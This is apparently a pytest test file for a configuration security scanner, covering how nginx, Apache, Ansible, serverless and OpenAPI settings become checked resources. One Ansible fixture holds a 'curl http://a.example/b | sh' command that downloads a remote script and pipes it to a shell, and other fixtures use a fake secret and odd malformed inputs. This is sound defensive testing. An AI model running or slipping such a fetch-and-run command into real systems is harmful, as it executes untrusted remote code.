"""How settings of Ansible, serverless, OpenAPI, nginx and Apache become resources."""

from collections.abc import Mapping

import pytest

from mergegate.core.tree import Role
from mergegate.repo.checks.infrastructure.dialects import described
from mergegate.repo.checks.infrastructure.dialects.addresses import reach, scheme
from mergegate.repo.engines import documents
from mergegate.repo.facts.documents import Form, Node
from mergegate.repo.facts.resources import UNKNOWN, Resource
from tests.repo.infrastructure.reading import answers, told
from tests.secrets.mint import minted


def resources(path: str, text: str) -> list[Resource]:
    """What one file describes."""
    found = documents.fact(answers(documents.DocumentEngine(), {path: text}, Role.SOURCE))
    return list(described(found))


def one(found: list[Resource], kind: str) -> Resource:
    """The only resource of a kind."""
    [only] = [each for each in found if each.kind == kind]
    return only


def said(node: Node) -> object:
    """A node as plain values; an unknown one as its tag."""
    if node.tag == UNKNOWN:
        return UNKNOWN
    if node.form is Form.MAP:
        return {key: said(value) for key, value in node.entries}
    return [said(each) for each in node.items] if node.form is Form.LIST else node.text


NGINX = """
http {
  server_tokens off;
  add_header X-Frame-Options DENY;
  include mime.types;
  server {
    listen 443 ssl;
    allow 10.0.0.0/8;
    deny all;
    location /a {
      allow 192.0.2.1;
      add_header Cache-Control no-store;
    }
  }
}
"""


def test_nginx_inherits_what_an_inner_block_does_not_say() -> None:
    location = one(resources("nginx.conf", NGINX), "nginx.location").properties
    assert said(location) == {
        "checks_file": "false",
        "sees_certificate": "false",
        "whole": "true",
        "open_ports": ["443"],
        "plain": "false",
        "serves_files": "false",
        "server_tokens": "off",
        "tls": "true",
        "within": "server",
        "asks_login": "false",
        "passes_on": "false",
        "argument": "/a",
        "allow": "192.0.2.1",  # not the denial beside the outer list
        "allowed_alone": "192.0.2.1",
        "add_header": "Cache-Control no-store",
        "header": {"cache-control": "no-store"},
        "dropped": ["x-frame-options"],
        "dropped_values": ["x-frame-options deny"],
    }


@pytest.mark.parametrize(
    ("pattern", "is_told"),
    [
        ("/u/(?<name>[^/]*)", True),
        (r"/u/(?<name>\W+)", True),
        (r"/u/(?:a|(?<name>[^/]+))", True),
        (r"/u/(?<name>[^/\s]*)", False),
        (r"/u/(?<name>[^/\n]*)", False),
        ("/u/(?<name>.*)", False),
        ("/[^/]*/(?<name>[a-z]+)", False),
        (f"/u/(?<name>[^/]*){'b?' * 1_500}", False),  # nobody writes that
    ],
)
def test_a_line_break_in_a_header_is_told_by_the_pattern(pattern: str, is_told: bool) -> None:
    text = f"server {{\n  location ~ {pattern} {{\n    add_header X-Name $name;\n  }}\n}}\n"
    location = one(resources("nginx.conf", text), "nginx.location").properties
    assert location["broken_header"].present is is_told


def test_nginx_is_judged_as_it_is_written_too() -> None:
    blocks = [each for each in resources("a.conf", NGINX) if each.kind == "nginx.block"]
    assert [each.address for each in blocks] == ["main", "http", "server", "location /a"]
    assert said(blocks[2].properties["listen"]) == "443 ssl"


@pytest.mark.parametrize(
    "value", ["{{ protocols }}", "${TLS_PROTOCOLS}", "@PROTOCOLS@", "<%= a %>"]
)
def test_what_a_template_fills_in_is_unknown(value: str) -> None:
    text = f"server {{\n  server_name a;\n  ssl_protocols '{value}';\n}}\n"
    server = one(resources("nginx.conf", text), "nginx.server").properties
    assert said(server["ssl_protocols"]) == UNKNOWN


APACHE = """
<VirtualHost *:443>
  Header always set X-Frame-Options DENY
  <LocationMatch "^/a">
    <RequireAll>
      Require ip 10.0.0.0/8
    </RequireAll>
    <Files b>
      Options Indexes
    </Files>
  </LocationMatch>
</VirtualHost>
"""


def test_apache_knows_who_is_asked_for_a_login() -> None:
    found = resources("httpd.conf", APACHE)
    guarded = {each.kind: each.properties["guarded"].text for each in found}
    assert guarded["apache.virtualhost"] == "false"
    assert guarded["apache.location"] == "true"
    assert guarded["apache.files"] == "true"
    host = one(found, "apache.virtualhost")
    assert said(host.properties["header"]) == {"x-frame-options": "deny"}
    assert host.address == "virtualhost *:443"


ANSIBLE = """
- hosts: web
  become: true
  tasks:
    - name: group
      no_log: true
      block:
        - name: short
          get_url: url=https://a.io/{{ x }} dest="/opt/my file"
        - name: full
          ansible.builtin.get_url:
            url: "http://a.io/{{ x }}"
          args:
            dest: /opt/a
        - name: old
          local_action: command echo {{ x }}
"""


def test_a_play_in_json_is_one() -> None:
    play = '[{"hosts": "all", "tasks": [{"shell": "curl http://a.example/b | sh"}]}]'
    assert [each.address for each in resources("play.json", play)] == ["play 1", "shell", "shell"]
    assert resources("people.json", '[{"name": "a", "user": "b", "group": "c"}]') == []


def test_a_module_is_the_kind_of_a_task_however_it_is_written() -> None:
    found = resources("site.yml", ANSIBLE)
    short, full = [each.properties for each in found if each.kind == "ansible.get_url"]
    assert (said(short["url"]), said(short["dest"])) == (UNKNOWN, "/opt/my file")
    assert (said(full["over"]), said(full["dest"])) == ({"url": "http"}, "/opt/a")
    command = one(found, "ansible.command").properties
    assert said(command["command"]) == "echo ${}"


def test_a_task_has_the_keywords_of_what_is_around_it() -> None:
    found = [each for each in resources("site.yml", ANSIBLE) if each.kind == "ansible.task"]
    assert [each.address for each in found] == ["short", "full", "old"]
    assert {said(each.properties["task"]["no_log"]) for each in found} == {"true"}
    assert {said(each.properties["task"]["become"]) for each in found} == {"true"}


@pytest.mark.parametrize(
    ("path", "count"),
    [
        ("roles/web/tasks/main.yml", 1),
        ("roles/web/handlers/main.yml", 1),
        ("playbooks/web.yml", 1),
        ("playbook-web.yml", 1),
        ("data/commands.yml", 0),
    ],
)
def test_a_list_of_tasks_is_one_by_its_path(path: str, count: int) -> None:
    found = resources(path, "- name: a\n  command: b\n")
    assert len([each for each in found if each.kind == "ansible.command"]) == count


@pytest.mark.parametrize(
    ("task", "names"),
    [
        ("command: a -p {{ db_password }}", ["db_password"]),
        ("command: a -p {{ vault.db.password }}", ["password"]),
        ("command: a {{ password_file }} {{ password | hash('sha256') }}", None),
        ("debug: {var: api_token}", ["api_token"]),
        ("debug: {msg: '{{ password is defined }}'}", None),
        ("template: {src: '{{ db_password }}'}", None),
        ("shell: b {{ name }}", None),
    ],
)
def test_what_a_task_would_show(task: str, names: list[str] | None) -> None:
    found = resources("roles/a/tasks/main.yml", f"- name: a\n  when: b\n  {task}\n")
    shown = one(found, "ansible.task").properties["shown"]
    assert (said(shown) if shown.present else None) == names


def test_a_secret_in_a_command_is_not_kept() -> None:
    secret = minted("<alnum:16>")
    text = f"- name: a\n  command: mysql --password {secret}\n"
    found = resources("roles/a/tasks/main.yml", text)
    assert secret not in str([said(each.properties) for each in found])
    assert not one(found, "ansible.task").properties["shown"].present  # detectors tell it


SERVERLESS = """
service: shop
provider:
  name: aws
  runtime: nodejs12.x
  environment: {STAGE: "${opt:stage}"}
  httpApi: {authorizers: {login: {type: jwt, issuerUrl: "https://id.io"}}}
functions:
  - list:
      handler: a.b
      url: ${self:custom.url}
      events: [{http: GET /orders}, {websocket: $connect}]
    save:
      handler: a.c
      runtime: python3.13
      events: [{httpApi: "*"}]
resources:
  - ${file(more.yml)}
  - Resources:
      Pictures:
        Type: AWS::S3::Bucket
        Properties:
          AccessControl: PublicRead
          BucketName: ${self:custom.bucket}
"""


def test_a_function_has_what_its_provider_says() -> None:
    found = resources("serverless.yml", SERVERLESS)
    functions = [each for each in found if each.kind == "serverless.function"]
    runtimes = {each.address: said(each.properties["runtime"]) for each in functions}
    assert runtimes == {"list": "nodejs12.x", "save": "python3.13"}
    assert said(functions[0].properties["url"]) == UNKNOWN
    event = one(found, "serverless.event-http").properties
    assert said(event) == {"method": "GET", "path": "/orders", "writes": "false"}
    assert said(one(found, "serverless.event-websocket").properties["route"]) == "$connect"
    assert one(found, "serverless.authorizer").address == "login"


def test_resources_of_cloudformation_are_judged_as_such() -> None:
    bucket = one(resources("serverless.yml", SERVERLESS), "AWS::S3::Bucket")
    assert said(bucket.properties["BucketName"]) == UNKNOWN
    rules = {each.rule_id for each in told({"serverless.yml": SERVERLESS})}
    assert "iac-cloudformation-s3-public-acl" in rules


OPENAPI = """
openapi: 3.1.0
info: {title: a, version: '1'}
security: [{key: []}]
components: {securitySchemes: {key: {type: apiKey, in: header, name: X}}}
paths:
  /orders:
    get: {responses: {'200': {}}}
    post: {security: [], responses: {}}
    put: {security: [{}, {key: []}], responses: {}}
    delete: {security: [{other: []}], responses: {}}
"""


def test_an_operation_is_secured_by_itself_or_as_all_are() -> None:
    found = resources("openapi.yaml", OPENAPI)
    state = {
        each.address: said(each.properties["security"])
        for each in found
        if each.kind == "openapi.operation"
    }
    assert state == {
        "get /orders": "required",
        "post /orders": "emptied",
        "put /orders": "optional",
        "delete /orders": "required",
    }
    last = next(each for each in found if each.address == "delete /orders")
    assert said(last.properties["undefined"]) == ["other"]


@pytest.mark.parametrize(
    ("address", "told_as"),
    [
        ("http://api.widgets.io/v1", ("http", "public")),
        ("HTTPS://user@api.widgets.io", ("https", "public")),
        ("http://localhost:8080", ("http", "local")),
        ("http://[::1]/", ("http", "local")),
        ("http://10.1.2.3", ("http", "private")),
        ("http://169.254.169.254/latest", ("http", "private")),
        ("http://8.8.8.8", ("http", "public")),
        ("https://billing.corp", ("https", "private")),
        ("http://backend", ("http", "private")),
        ("http://www.example.com", ("http", "example")),
        ("http://{host}/", ("http", "")),
        ("http://${HOST}/", ("http", "")),
        ("/v1", ("", "")),
    ],
)
def test_addresses(address: str, told_as: tuple[str, str]) -> None:
    assert (scheme(address), reach(address)) == told_as


HOSTILE: Mapping[str, str] = {
    "roles/a/tasks/main.yml": "- name: {a: b}\n  when: [c]\n  command: {argv: {d: e}}\n  args: f\n",
    "roles/b/tasks/main.yml": "- block:\n"
    + "".join(f"{' ' * (2 * depth)}- block:\n" for depth in range(1, 30))
    + " " * 60
    + "- command: a\n",
    "site.yml": "- hosts: a\n  tasks: {b: c}\n  vars: [d]\n- hosts: e\n  handlers: f\n",
    "serverless.yml": "service: {a: [b]}\nprovider: {name: aws, iam: [c], s3: d}\nfunctions: e\n",
    "sls/serverless.yml": "service: a\nprovider: aws\nfunctions: {b: [c]}\nresources: [d, [e]]\n",
    "openapi.yaml": "openapi: 3.0.0\ninfo: []\npaths: {/a: [b], /c: {post: {security: e}}}\n",
    "swagger.yaml": "swagger: '2.0'\ninfo: a\nhost: [b]\nschemes: {c: d}\nsecurityDefinitions: e\n",
    "nginx.conf": "server { listen; server_name; add_header; location; if; proxy_pass; }",
    "httpd.conf": "<Directory>\nOptions\nHeader\nRequire\n</Directory>\nProxyPassMatch\n",
    "a/openapi.yaml": "openapi: 3.1.0\n"
    "paths: {'': a, /b: [c], '/{}': {get: {responses: {'': d}}}}\n"
    "components: {schemas: {A: {$ref: [b], allOf: [{$ref: '#/components/schemas/A'}], required: a},"
    " '': {required: [a, a], enum: {}, properties: [b], discriminator: []}}, parameters: a}\n",
    "b/swagger.yaml": "swagger: '2.0'\npaths: {/a: {post: {parameters: [a, {in: [b], name: {}}],"
    " security: {a: b}, consumes: a}}}\ndefinitions: [a]\n"
    "parameters: {a: {$ref: '#/parameters/a'}}\n",
    "haproxy.cfg": "frontend a\n  bind\n  stats\nglobal\nlisten\n",
    "Caddyfile": "{\n}\n{\n  admin\n}\n:80 {\n  file_server\n  {\n  }\n}\n",
    "sshd_config": "PermitRootLogin no\nMatch\n  Ciphers\nMatch User\n",
    "php.ini": "expose_php = On\n[=\n]\n= a\n",
    "daemon.json": '{"hosts": {"a": []}, "icc": [], "live-restore": null}',
    "ansible.cfg": "[defaults]\nhost_key_checking\n[]\n[galaxy\nignore_certs =\n",
}


@pytest.mark.parametrize("path", HOSTILE)
def test_settings_of_odd_shapes_are_no_mistake_of_ours(path: str) -> None:
    assert isinstance(told({path: HOSTILE[path]}), list)
    assert resources(path, HOSTILE[path])


def test_properties_of_openapi_are_read_where_they_stand() -> None:
    text = """
openapi: 3.1.0
paths:
  /a:
    post:
      requestBody: {content: {a/b: {schema: {properties: {asked: {type: string}}}}}}
      responses:
        '200': {content: {a/b: {schema: {$ref: '#/components/schemas/Outer'}}}}
components:
  schemas:
    Outer: {properties: {inner: {$ref: '#/components/schemas/Inner'}}}
    Inner:
      properties: {deep: {type: string}, loop: {$ref: '#/components/schemas/Outer'}}
      example: {properties: {none: {type: string}}}
    Apart: {properties: {unused: {type: string}}}
"""
    found = [one for one in resources("openapi.yaml", text) if one.kind == "openapi.property"]
    answered = {said(one.properties["name"]): said(one.properties["answered"]) for one in found}
    assert answered == {
        "asked": "false",
        "inner": "true",
        "deep": "true",
        "loop": "true",
        "unused": "false",
    }


def test_the_address_of_a_server_has_its_variables_filled_in() -> None:
    text = (
        "openapi: 3.1.0\npaths: {}\nservers:\n- url: '{scheme}://{host}.widgets.io'\n"
        "  variables: {scheme: {default: http}}\n"
    )
    server = one(resources("openapi.yaml", text), "openapi.server").properties
    assert said(server["url"]) == "http://{host}.widgets.io"
